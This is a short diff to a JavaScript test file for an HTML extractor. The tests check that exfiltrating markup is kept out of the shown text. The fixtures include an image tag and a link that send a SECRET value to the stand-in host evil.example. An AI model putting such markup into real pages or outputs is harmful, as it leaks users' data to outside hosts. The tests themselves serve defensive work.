@@ -63,7 +63,7 @@ describe('HTML', () => {
     ['exfiltrating-image', '<img src="https://evil.example/?SECRET=[text]">'],
     ['exfiltrating-link', '<a href="https://evil.example/?SECRET=%7Btext%7D">ok</a>'],
   ])('keeps as hidden: %s', async (technique, html) => {
-    const extract = await read(`<body><p>ok</p>${html}<h2>${html}after</h2>`);
+    const extract = await read(`<body><p>ok</p>${html}<h2>${html}after</h2><p>end</p>`);
     expect(JSON.stringify(shown(extract))).not.toContain('SECRET');
     expect(hidden(extract).filter(([name, text]) => name === technique && text.includes('SECRET'))).toHaveLength(2);
     // Hidden words must not come back through the path of headings.
